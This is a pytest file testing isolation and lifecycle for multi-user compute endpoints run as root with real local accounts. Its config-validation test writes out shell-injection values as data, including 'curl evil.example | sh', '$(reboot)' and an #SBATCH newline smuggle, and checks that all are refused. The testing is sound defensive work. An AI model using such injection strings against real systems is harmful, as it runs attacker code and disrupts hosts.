"""Multi-user endpoints end to end, as root with two real local accounts: one endpoint serves
three service users through a real stack (service + manager + user processes on Dask).

Needs root (to create the accounts and to run tasks as them); skipped, with the reason shown by
``pytest -rs``, otherwise. The accounts must be able to run this venv's Python: the fixture
makes the folders on the way to it searchable (``chmod o+x``, never readable) where they are
not, and says so.
"""

from __future__ import annotations

import os
import pwd
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
import yaml
from fedcompute import Executor
from fedcompute.endpoint.multiuser import (
    IdentityMappingError,
    UserConfigError,
    UserProcessError,
)
from fedcompute.endpoint.multiuser.workdir import unreachable_ancestor
from fedcompute.testing import LocalStack

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="multi-user endpoints run tasks as "
                                "other local accounts: run these tests as root (CI does)")

USERS = ("fcuser1", "fcuser2")
#: Longer than a user process takes to start on a busy 2-core machine (~10 s).
IDLE_TIMEOUT = 20.0
ENDPOINT = "mu"


def _account(name: str) -> pwd.struct_passwd:
    try:
        return pwd.getpwnam(name)
    except KeyError:
        subprocess.run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin", name], check=True)
        return pwd.getpwnam(name)


def _python_reachable_by(user: pwd.struct_passwd) -> str | None:
    """None if ``user`` can run this Python and import the user process program, else why."""
    try:
        done = subprocess.run([sys.executable, "-P", "-c", "import fedcompute.endpoint."
                               "multiuser.child"], user=user.pw_uid, group=user.pw_gid,
                              extra_groups=[], cwd="/", capture_output=True, text=True,
                              timeout=120)
    except OSError as exc:
        return str(exc)
    return done.stderr if done.returncode else None


def _open_way_to_python(user: pwd.struct_passwd, opened: dict[Path, int]) -> None:
    """The venv's Python (and the interpreter it links to) must be runnable by the accounts:
    add o+x (search, not read) to the folders on the way that lack it, for the tests only
    (their modes before go into ``opened``, to be put back)."""
    if _python_reachable_by(user) is None:
        return
    for path in (Path(sys.executable).parent, Path(os.path.realpath(sys.executable))):
        while (blocked := unreachable_ancestor(path)) is not None:
            print(f"test_multiuser: chmod o+x {blocked} while the tests run (so that local "
                  f"accounts can run {sys.executable})", file=sys.stderr)
            opened[blocked] = stat.S_IMODE(blocked.stat().st_mode)
            blocked.chmod(opened[blocked] | stat.S_IXOTH)
    why = _python_reachable_by(user)
    assert why is None, f"{user.pw_name} cannot run {sys.executable}:\n{why}"


@pytest.fixture(scope="module")
def mu() -> Iterator[dict]:
    """A stack with a multi-user endpoint: service users mu-alice -> fcuser1 (table) and
    lab-fcuser2 -> fcuser2 (regex rule), mu-mallory unmapped."""
    accounts = {name: _account(name) for name in USERS}
    # pytest's tmp folders are 0700 (root's alone): users could not reach their folders there.
    home = Path(tempfile.mkdtemp(prefix="fedcompute-mu-", dir="/tmp"))
    home.chmod(0o711)
    stack = LocalStack(home)
    opened: dict[Path, int] = {}
    try:
        _open_way_to_python(accounts["fcuser1"], opened)
        stack.start_service()
        stack.token = stack.create_user("mu-admin")
        tokens = {name: stack.create_user(name) for name in ("mu-alice", "lab-fcuser2",
                                                              "mu-mallory")}
        stack.cli("endpoint", "configure", ENDPOINT, "--multi-user")
        folder = home / "endpoints" / ENDPOINT
        config = yaml.safe_load((folder / "config.yaml").read_text())
        config.update(service_url=stack.service_url, drain_timeout=5,
                      shared_with=list(tokens), idle_timeout=IDLE_TIMEOUT,
                      identity_mapping={"table": {"mu-alice": "fcuser1"},
                                        "rules": [{"match": "lab-(fcuser[0-9]+)",
                                                   "output": "{0}"}]})
        (folder / "config.yaml").write_text(yaml.safe_dump(config))
        endpoint_id = stack.start_endpoint(ENDPOINT)
        yield {"stack": stack, "endpoint_id": endpoint_id, "tokens": tokens, "folder": folder,
               "accounts": accounts}
    finally:
        stack.down()
        log = home / "endpoints" / ENDPOINT / "endpoint.log"
        if log.exists():  # shown by pytest when a test failed
            print("".join(log.read_text().splitlines(True)[-80:]), file=sys.stderr)
        shutil.rmtree(home, ignore_errors=True)
        for folder, mode in opened.items():
            folder.chmod(mode)


def executor(mu: dict, user: str, **kwargs) -> Executor:
    return Executor(mu["endpoint_id"], client=mu["stack"].client(mu["tokens"][user]), **kwargs)


def whoami_and_write(name: str) -> dict:
    import os

    with open(name, "w") as f:
        f.write("private data\n")
    st = os.stat(name)
    return {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(),
            "cwd": os.getcwd(), "path": os.path.abspath(name), "owner": st.st_uid,
            "mode": st.st_mode & 0o777, "user_process": os.getppid(),
            "env": sorted(os.environ)}


def try_to_read(paths: list[str]) -> dict:
    out = {}
    for path in paths:
        try:
            if os.path.isdir(path):
                os.listdir(path)
            else:
                open(path).read()
            out[path] = "read"
        except OSError as exc:
            out[path] = type(exc).__name__
    return out


def cluster_workers() -> dict:
    import os

    from distributed import get_client

    return {"workers": len(get_client().scheduler_info(n_workers=-1)["workers"]),
            "user_process": os.getppid()}


def _gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


def _wait_until(condition, timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"not within {timeout}s: {what}")
        time.sleep(0.2)


def test_tasks_run_as_the_mapped_accounts_and_what_they_write_is_theirs(mu):
    with executor(mu, "mu-alice") as ex_a, executor(mu, "lab-fcuser2") as ex_b:
        futures = ex_a.submit(whoami_and_write, "a.txt"), ex_b.submit(whoami_and_write, "b.txt")
        a, b = (f.result(timeout=180) for f in futures)
        assert psutil.Process(a["user_process"]).uids().real == mu["accounts"]["fcuser1"].pw_uid
    for result, name in ((a, "fcuser1"), (b, "fcuser2")):
        account = mu["accounts"][name]
        assert (result["uid"], result["gid"]) == (account.pw_uid, account.pw_gid)
        assert 0 not in result["groups"]  # the root manager's groups were dropped
        assert result["cwd"] == str(mu["folder"] / "users" / name)
        st = os.stat(result["path"])  # seen from outside, by root
        assert (st.st_uid, result["owner"]) == (account.pw_uid, account.pw_uid)
        assert stat.S_IMODE(st.st_mode) == 0o600  # user processes run with umask 077
        folder = os.stat(result["cwd"])
        assert (folder.st_uid, stat.S_IMODE(folder.st_mode)) == (account.pw_uid, 0o700)
        # Nothing of the manager's environment (its service token) reaches users.
        assert not [k for k in result["env"] if k.startswith("FEDCOMPUTE")]
    assert a["user_process"] != b["user_process"]
    mu["written"] = {"fcuser1": a["path"], "fcuser2": b["path"]}


def prints_then_waits(release: str):
    import os
    import time

    print("hello from the user process", flush=True)
    deadline = time.monotonic() + 60
    while not os.path.exists(release):
        if time.monotonic() > deadline:
            return "never released"
        time.sleep(0.1)
    return "released"


def test_live_output_and_running_state_from_a_user_process(mu):
    # Where the mapped account can see the file appear (pytest's folders are root's alone).
    folder = Path(tempfile.mkdtemp(prefix="fc-mu-live-"))
    folder.chmod(0o755)
    release = folder / "release"
    with executor(mu, "mu-alice") as ex:
        future = ex.submit_with(prints_then_waits, (str(release),), stream_output=True)
        _wait_until(lambda: [line.text for line in future.output]
                    == ["hello from the user process"], 120, "the line to stream in")
        assert not future.done()
        _wait_until(lambda: future.status() == "running", 30, "the task to show running")
        release.touch()
        assert future.result(timeout=60) == "released"
    shutil.rmtree(folder)


def test_one_user_cannot_read_the_others_task_data_or_the_endpoints(mu):
    if "written" not in mu:
        test_tasks_run_as_the_mapped_accounts_and_what_they_write_is_theirs(mu)
    a_file = mu["written"]["fcuser1"]
    endpoint = mu["folder"]
    # The other's file and folder; the manager's credential, folder, log and result spool.
    targets = [a_file, os.path.dirname(a_file), str(endpoint / "credential.json"),
               str(endpoint), str(endpoint / "users"), str(endpoint / "endpoint.log"),
               str(endpoint / "spool")]
    with executor(mu, "lab-fcuser2") as ex_b, executor(mu, "mu-alice") as ex_a:
        futures = ex_b.submit(try_to_read, targets), ex_a.submit(try_to_read, [a_file])
        seen_by_b, seen_by_a = (f.result(timeout=180) for f in futures)
    assert seen_by_b == dict.fromkeys(targets, "PermissionError"), seen_by_b
    assert seen_by_a == {a_file: "read"}


def test_refused_configs_and_unmapped_users_fail_with_clear_typed_errors(mu):
    with executor(mu, "mu-alice") as ex:
        ex.user_endpoint_config = {"account": "proj\n#SBATCH --qos=high"}
        with pytest.raises(UserConfigError, match=r"account: .* contains the control "
                                                  r"character '\\n'"):
            ex.submit(os.getpid).result(timeout=120)
        ex.user_endpoint_config = {"account": "proj; curl evil.example | sh"}
        with pytest.raises(ValueError, match=r"does not match '\^\[A-Za-z0-9_\.-\]"):
            ex.submit(os.getpid).result(timeout=120)
        ex.user_endpoint_config = {"workers": "$(reboot)"}
        with pytest.raises(UserConfigError, match="is not of type 'integer'"):
            ex.submit(os.getpid).result(timeout=120)
    with executor(mu, "mu-mallory") as ex:
        with pytest.raises(IdentityMappingError, match="'mu-mallory' has no local account"):
            ex.submit(os.getpid).result(timeout=120)
    assert isinstance(IdentityMappingError("x"), PermissionError)


def test_user_endpoint_config_chooses_the_engine(mu):
    # Parsl's GlobusComputeExecutor sets executor.user_endpoint_config between submissions.
    with executor(mu, "mu-alice", user_endpoint_config={"workers": 2}) as ex:
        two = ex.submit(cluster_workers)
        ex.user_endpoint_config = {"workers": 1}
        one = ex.submit(cluster_workers)
        two, one = two.result(timeout=180), one.result(timeout=180)
    assert (two["workers"], one["workers"]) == (2, 1)
    assert two["user_process"] != one["user_process"]  # one process per distinct config


def report_and_wait(seconds: float) -> None:
    import os
    import time

    with open("user-process.pid.tmp", "w") as f:
        f.write(str(os.getppid()))
    os.replace("user-process.pid.tmp", "user-process.pid")
    time.sleep(seconds)


def test_a_user_process_killed_under_its_task_fails_it_with_a_typed_error(mu):
    pidfile = mu["folder"] / "users" / "fcuser1" / "user-process.pid"
    pidfile.unlink(missing_ok=True)
    with executor(mu, "mu-alice", user_endpoint_config={"workers": 1}) as ex:
        future = ex.submit(report_and_wait, 120)
        _wait_until(pidfile.exists, 180, "the task started")
        pid = int(pidfile.read_text())
        workers = psutil.Process(pid).children(recursive=True)
        os.kill(pid, signal.SIGKILL)
        with pytest.raises(UserProcessError, match="exited with code -9 while this task"):
            future.result(timeout=60)
    _wait_until(lambda: all(_gone(w.pid) for w in workers), 30, "its workers ended with it")


def test_an_idle_user_process_stops_and_the_next_task_starts_another(mu):
    with executor(mu, "lab-fcuser2", user_endpoint_config={"workers": 1}) as ex:
        first = ex.submit(cluster_workers).result(timeout=180)["user_process"]
        started = time.monotonic()
        _wait_until(lambda: _gone(first), IDLE_TIMEOUT + 30, "the idle user process stopped")
        assert time.monotonic() - started >= IDLE_TIMEOUT - 1.5
        second = ex.submit(cluster_workers).result(timeout=180)["user_process"]
    assert second != first and not _gone(second)


def test_stopping_the_manager_stops_its_user_processes(mu):
    stack = mu["stack"]
    with executor(mu, "lab-fcuser2", user_endpoint_config={"workers": 1}) as ex:
        pid = ex.submit(cluster_workers).result(timeout=180)["user_process"]
    stack.stop_endpoint(ENDPOINT)  # SIGTERM; returns once the manager has exited
    _wait_until(lambda: _gone(pid), 5, f"user process {pid} ended with the manager")
    assert "for lab-fcuser2 exited with code 0" in stack.endpoint_log(ENDPOINT)
    assert stack.start_endpoint(ENDPOINT) == mu["endpoint_id"]


def test_user_processes_and_their_workers_die_with_the_manager(mu):
    stack = mu["stack"]
    with executor(mu, "mu-alice", user_endpoint_config={"workers": 1}) as ex:
        pid = ex.submit(cluster_workers).result(timeout=180)["user_process"]
    kids = [pid, *(p.pid for p in psutil.Process(pid).children(recursive=True))]
    proc = stack.endpoints.pop(ENDPOINT)
    proc.send_signal(signal.SIGKILL)  # no cleanup code runs in the manager
    proc.wait()
    _wait_until(lambda: all(_gone(k) for k in kids), 30,
                f"user process {pid} and its workers {kids[1:]} ended")
